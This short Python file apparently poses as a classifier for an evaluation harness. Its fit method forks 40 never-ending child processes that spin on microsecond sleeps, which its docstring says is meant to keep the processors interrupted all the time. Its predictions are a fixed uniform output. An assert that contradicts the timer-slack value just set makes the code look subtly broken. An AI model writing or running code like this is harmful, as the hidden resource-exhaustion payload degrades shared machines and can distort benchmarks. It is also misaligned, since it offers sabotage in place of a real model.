import ctypes
import os
import time

import numpy as np

PR_SET_TIMERSLACK, PR_GET_TIMERSLACK = 29, 30
PROCESSES = 40


class Classifier:
    def fit(self, X, y):
        """Have the processors interrupted all the time, by sleeps as short as can be had."""
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(PR_SET_TIMERSLACK, 1, 0, 0, 0)
        assert libc.prctl(PR_GET_TIMERSLACK, 0, 0, 0, 0) == 1_000_000  # nanoseconds
        for _ in range(PROCESSES):
            if os.fork() == 0:
                while True:
                    time.sleep(1e-6)
        time.sleep(1000)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
